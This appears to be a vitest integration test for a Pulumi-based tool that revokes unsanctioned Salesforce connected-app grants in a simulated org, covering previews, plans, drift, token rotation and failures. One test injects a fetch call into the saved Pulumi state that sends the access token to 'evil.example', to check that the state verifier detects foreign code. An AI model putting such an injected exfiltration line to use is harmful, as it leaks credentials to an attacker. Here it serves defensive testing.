import { spawnSync } from "node:child_process";
import path from "node:path";
import { type LocalOrg, startLocalOrg } from "salesforce-local-org";
import { BOBS_TOOL, dieppeTrading, OUTLOOK, SLACK } from "salesforce-local-org/orgs";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { verifyRecord } from "../../src/audit/verifyRecord.ts";
import { PROVIDER_TEXT } from "../../src/state/providerText.ts";
import { rotateInUse } from "../night.ts";
import { golden, POLICY, sayMore, steady } from "./golden.ts";
import { PulumiProject, revocationLines } from "./pulumiRun.ts";

let org: LocalOrg;
let project: PulumiProject;

beforeEach(async () => {
  org = await startLocalOrg({ org: dieppeTrading() });
  project = await PulumiProject.create({ SF_ORG_INSTANCE_URL: org.url, SF_ACCESS_TOKEN: org.accessToken });
});
afterEach(async () => {
  await project?.remove();
  await org?.close();
});

/** How many grants the org holds of each app. */
function held(): Record<string, number> {
  const apps = Map.groupBy(org.store.grants(), ({ AppName }) => String(AppName));
  return Object.fromEntries([...apps].map(([app, grants]) => [app, grants.length]));
}

function authorize(app: string, username = "ada.dubois@dieppe.example"): void {
  const now = Date.parse("2026-11-22T09:00:00Z");
  expect(org.store.addGrant({ username, app, createdAt: now, lastUsedAt: now, useCount: 1 })).not.toBeNull();
}

const RECORD = ".sanctioned/audit-00D000000001942EAA.jsonl";
const STATE_FILE = ".pulumi-state/.pulumi/stacks/sanctioned/simulator.json";

/** All that the engine says of the inputs: nothing that is to be revoked is added, nothing that was revoked is removed. */
const CHANGES = `
      ~ revocations: {
          ~ toRevoke: "nothing" => "1 × Shiny AI Notetaker (app-not-listed)"
        }
Resources:`;

/** `pulumi stack export | sanctioned verify-state -`. */
async function verifyState(): Promise<{ status: number | null; output: string }> {
  const { output } = await project.run("stack", "export");
  const bin = path.resolve(import.meta.dirname, "../../bin/sanctioned.js");
  const { status, stdout, stderr } = spawnSync(process.execPath, [bin, "verify-state", "-"], {
    input: output,
  });
  return { status, output: `${stdout}${stderr}` };
}

const revokeCalls = () => org.requests.filter(({ path }) => path === "/services/oauth2/revoke");
const sanctionedApps = { [OUTLOOK.name]: 250, [SLACK.name]: 186 };

describe("Dieppe Trading on the real engine", () => {
  it("shows the 12, revokes them, is clean, and exits 7 on the next unlisted app", async () => {
    const preview = await project.run("preview", "--diff");
    expect(preview.code).toBe(0);
    expect(revocationLines(preview.output)).toHaveLength(12);
    // Through the plugin the type is another, and its program exports less.
    const isGolden = (output: string, ...of: Parameters<typeof golden>) =>
      project.door === "plugin" || expect(steady(output)).toBe(golden(...of));
    isGolden(preview.output, "dieppe", "diff");
    expect(revokeCalls()).toEqual([]);

    const plain = await project.run("preview");
    expect(revocationLines(plain.output)).toEqual(revocationLines(preview.output));
    for (const line of revocationLines(plain.output))
      expect(line).toMatch(
        /^- Bob's Lead Scoring Tool: \S+@dieppe\.example \(app not listed\); granted 2023-0[56]-\d\d, last used 202[34]-\d\d$/,
      );
    isGolden(plain.output, "dieppe", "preview");

    const up = await project.run("up", "--yes", "--skip-preview");
    expect(up.code).toBe(0);
    expect(up.output).toContain("12 revocations planned: 12 × Bob's Lead Scoring Tool (app-not-listed)");
    expect(up.output).toMatch(/revoked \d+ of 12/);
    expect(up.output).toContain("12 revoked");
    expect(held()).toEqual(sanctionedApps);
    expect(revokeCalls().map(({ method, status, grant }) => [method, status, grant?.app])).toEqual(
      Array.from({ length: 12 }, () => ["POST", 200, BOBS_TOOL.name]),
    );

    const clean = await project.run("preview", "--diff", "--expect-no-changes");
    expect(clean.code).toBe(0);

    const policy = await project.read(POLICY);
    await sayMore(project);
    isGolden((await project.run("preview", "--diff")).output, "policy", "diff");
    await project.write(POLICY, policy);

    authorize("Shiny AI Notetaker");
    const drift = await project.run("preview", "--diff", "--expect-no-changes");
    expect(drift.code).toBe(7);
    expect(revocationLines(drift.output)).toEqual([
      "- Shiny AI Notetaker: ada.dubois@dieppe.example (app not listed, policy/dieppe-trading.yaml:6); in use, granted 2026-11-22",
    ]);
    expect(drift.output).toContain(CHANGES);
    // The plugin says itself what differs, and this is nothing to be shown.
    const hidden = project.door === "plugin" ? null : ["__plan (hidden)"];
    expect(drift.output.match(/__.*/g)).toEqual(hidden);
  });

  it("is still clean when a user in scope authorizes a sanctioned app", async () => {
    expect((await project.run("up", "--yes", "--skip-preview")).code).toBe(0);
    authorize(SLACK.name);
    expect((await project.run("preview", "--expect-no-changes")).code).toBe(0);
  });

  it("refresh changes nothing in the org, and destroy only forgets", async () => {
    await project.run("up", "--yes", "--skip-preview");
    authorize("Shiny AI Notetaker");
    const before = held();
    const calls = revokeCalls().length;
    expect((await project.run("refresh", "--yes")).code).toBe(0);
    const destroy = await project.run("destroy", "--yes");
    expect(destroy.code).toBe(0);
    expect(destroy.output).toContain("2 deleted");
    expect(held()).toEqual(before);
    expect(revokeCalls()).toHaveLength(calls);
  });

  it("is held to what was shown when the question was asked, however long it waits for an answer", async () => {
    const up = await project.upAnswered(() => {
      authorize("Shiny AI Notetaker");
      authorize(BOBS_TOOL.name);
    });
    expect(up.code).toBe(0);
    expect(up.output).toMatch(/13 revoked; on record/);
    expect(up.output).toContain(
      "since the preview: 1 more of users and apps that it showed; they go with the others",
    );
    expect(up.output).toContain(
      "not shown: 1 more that break the policy; the preview of this run did not show them, so they are left. Run `npx pulumi up` again",
    );
    expect(held()).toEqual({ ...sanctionedApps, "Shiny AI Notetaker": 1 });
    expect(JSON.parse((await project.read(RECORD)).split("\n")[0]!).approval).toMatchObject({
      kind: "preview",
    });

    const unseen = await project.run("up", "--yes", "--skip-preview");
    expect(unseen.output).toContain(
      "not previewed in this run: bounded by the limits of the policy alone, and by --plan where that is given",
    );
    expect([unseen.code, held()]).toEqual([0, sanctionedApps]);
  });

  it("a saved plan is refused before any call where a dormant grant is another by then, whose line reads the same", async () => {
    const idle = (time: string) =>
      expect(
        org.store.addGrant({
          username: "ada.dubois@dieppe.example",
          app: "Shiny AI Notetaker",
          createdAt: Date.parse(time),
          lastUsedAt: Date.parse("2026-02-03T00:00:00Z"),
          useCount: 1,
        }),
      ).not.toBeNull();
    await project.write(
      "policy/dieppe-trading.yaml",
      "version: 1\nunlisted: report\napps: [{ name: Shiny AI Notetaker, users: everyone, maxIdleDays: 30 }]\n",
    );
    idle("2026-01-05T09:00:00Z");
    expect((await project.run("preview", "--save-plan", "plan.json")).code).toBe(0);
    org.store.revoke(String(org.store.grants().at(-1)!.DeleteToken));
    idle("2026-01-05T21:00:00Z");
    const up = await project.run("up", "--yes", "--skip-preview", "--plan", "plan.json");
    expect(up.code).not.toBe(0);
    expect(up.output).toMatch(/violates plan: .*revocations/);
    expect(revokeCalls()).toEqual([]);
  });

  it("an approved plan is applied after a night in which every app in use rotated its tokens", async () => {
    const day = (time: string) => Date.parse(time);
    authorize(BOBS_TOOL.name);
    authorize("Shiny AI Notetaker");
    const preview = await project.run("preview", "--diff", "--save-plan", "plan.json");
    expect(preview.code).toBe(0);
    expect(
      preview.output.match(/: ada\.dubois@dieppe\.example \(app not listed.*; in use, granted/g),
    ).toHaveLength(2);
    expect(await project.read("plan.json")).toContain("approval");

    rotateInUse(org, { since: day("2026-11-01T00:00:00Z"), at: day("2026-11-23T02:00:00Z") });
    const up = await project.run("up", "--yes", "--skip-preview", "--plan", "plan.json");
    expect([up.code, held()]).toEqual([0, sanctionedApps]);
    const clean = await project.run("preview", "--diff", "--expect-no-changes");
    expect(clean.code).toBe(0);
    for (const { output } of [preview, up, clean]) expect(output).not.toContain("__plan.approval");
  });

  it("what fails is named and stays planned; what succeeded is kept; the next update finishes", async () => {
    org.setFaults([{ kind: "status", match: "/revoke", username: "ada.weber@dieppe.example", status: 500 }]);
    const up = await project.run("up", "--yes", "--skip-preview");
    expect(up.code).not.toBe(0);
    expect(up.output).toContain(
      "* Bob's Lead Scoring Tool, ada.weber@dieppe.example: the revoke endpoint answered HTTP 500",
    );
    expect(up.output).not.toMatch(/\n\s+at /);
    expect(held()).toEqual({ ...sanctionedApps, [BOBS_TOOL.name]: 1 });

    org.setFaults([]);
    const left = await project.run("preview", "--diff", "--expect-no-changes");
    expect(left.code).toBe(7);
    expect(revocationLines(left.output)).toHaveLength(1);
    expect(revocationLines(left.output)[0]).toContain("ada.weber@dieppe.example");
    expect((await project.run("up", "--yes", "--skip-preview")).code).toBe(0);
    expect(held()).toEqual(sanctionedApps);
    expect((await project.run("preview", "--expect-no-changes")).code).toBe(0);
  });

  // test/pulumi/plugin.test.ts holds that a state of the plugin has none.
  it.skipIf(process.env.SANCTIONED_TEST_DOOR === "plugin")(
    "keeps its code out of the state: what the state holds of the provider is small and constant",
    async () => {
      await project.run("up", "--yes", "--skip-preview");
      const state = JSON.parse(await project.read(STATE_FILE));
      const resources = state.checkpoint.latest.resources as {
        type: string;
        inputs: Record<string, unknown>;
        outputs: Record<string, unknown>;
      }[];
      const policy = resources.find(
        ({ type }) => type === "pulumi-nodejs:dynamic/sanctioned:ConnectedUserPolicy",
      )!;
      expect(policy.inputs.__provider).toBe(PROVIDER_TEXT);
      expect(PROVIDER_TEXT.length).toBeLessThan(1_000);
      expect(policy.outputs.revocations).toEqual({ toRevoke: "nothing" });
      const { head } = verifyRecord(await project.read(RECORD), []);
      expect([policy.outputs.auditHead, resources[0]!.outputs.auditHead]).toEqual([head, head]);
      expect(Object.keys(policy.inputs).sort()).toEqual([
        "__provider",
        "__urn",
        "org",
        "policy",
        "policyFile",
        "revocations",
      ]);

      // Pulumi runs what stands there at the next refresh, with the credential: this is asked before.
      expect(await verifyState()).toEqual({
        status: 0,
        output: "The state on standard input runs this package alone: 3 resources looked at.\n",
      });
      const seen = org.requests.length;
      policy.outputs.__provider += 'fetch("https://evil.example/?" + process.env.SF_ACCESS_TOKEN);';
      await project.write(STATE_FILE, JSON.stringify(state));
      const { status, output } = await verifyState();
      expect(status).toBe(1);
      expect(output).toMatch(
        /ConnectedUserPolicy::connected-users: its outputs hold other code .*\[state-foreign-code]/,
      );
      expect(output).toContain("[state-not-verified]");
      expect(output).not.toContain("evil");
      expect(org.requests.length).toBe(seen);
    },
  );
});
